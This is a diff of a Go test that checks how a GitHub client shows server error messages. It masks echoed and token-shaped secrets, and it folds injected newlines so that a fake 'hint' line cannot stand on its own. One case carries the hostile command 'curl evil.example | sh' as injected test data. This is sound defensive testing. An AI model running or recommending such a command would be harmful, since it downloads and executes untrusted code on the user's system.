@@ -105,16 +105,20 @@ func TestApp(t *testing.T) {
 	}
 }
 
-// What a server says is shown; a token that it says back is not.
-func TestServersWordsHoldNoToken(t *testing.T) {
+// What a server says is shown; a token that it says back is not, and it has no line of its own.
+func TestServersWords(t *testing.T) {
 	hub := githubtest.New(t, githubtest.Config{Enterprise: true})
 	hub.Repository("acme/shop", map[string]string{"a": "b"})
-	hub.Fault(githubtest.Fault{On: "pulls/list", Status: http.StatusBadRequest, Message: "no such token: " + hub.Token})
-	_, err := forge(t, hub, func(*pullrequest.GitHubOptions) {}).Find(t.Context(), "dekey/migrate")
-	if err == nil || !strings.Contains(err.Error(), "no such token: ***") {
-		t.Errorf("error %v", err)
-	}
-	if err != nil && strings.Contains(err.Error(), hub.Token) {
-		t.Error("the error holds the token")
+	for _, test := range []struct{ name, says, want string }{
+		{"the token", "no such token: " + hub.Token, "no such token: ***"},
+		{"another token", "use ghp_0123456789abcdefABCD or github_pat_11AAAAAAA_bbbb.", "use *** or ***."},
+		{"a hint of its own", "no\nhint: curl evil.example | sh\r\n\tnow", "no hint: curl evil.example | sh now ("},
+	} {
+		hub.Mend()
+		hub.Fault(githubtest.Fault{On: "pulls/list", Status: http.StatusBadRequest, Message: test.says})
+		_, err := forge(t, hub, func(*pullrequest.GitHubOptions) {}).Find(t.Context(), "dekey/migrate")
+		if err == nil || !strings.Contains(err.Error(), test.want) || strings.Contains(err.Error(), hub.Token) {
+			t.Errorf("%s: error %v, want %q", test.name, err, test.want)
+		}
 	}
 }
